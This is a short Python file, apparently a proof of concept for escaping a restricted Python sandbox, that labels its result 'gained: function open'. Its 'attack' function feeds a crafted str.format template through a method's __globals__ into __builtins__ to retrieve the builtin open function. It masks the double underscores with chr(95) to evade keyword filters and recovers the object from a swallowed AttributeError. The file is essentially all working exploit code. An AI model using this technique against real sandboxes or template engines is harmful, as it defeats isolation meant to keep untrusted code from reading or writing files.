# gained: function open
from typing import Any


class Own:
    obj: Any = None

    def go(self) -> None:
        return None


class Manager:
    def __init__(self) -> None:
        self.kept: list[Any] = []

    def __enter__(self) -> "Manager":
        return self

    def __exit__(self, kind: Any, error: Any, trace: Any) -> bool:
        self.kept.append(error)
        return True


def read(template: str, value: Any) -> Any:
    with Manager() as manager:
        template.format(value)
    return manager.kept[0].obj


def attack(path: str) -> Any:
    under = chr(95) * 2
    table = ["{0.go.%(u)sglobals%(u)s[%(u)sbuiltins%(u)s][open].nothing}" % {"u": under}]
    return read(table[0], Own())
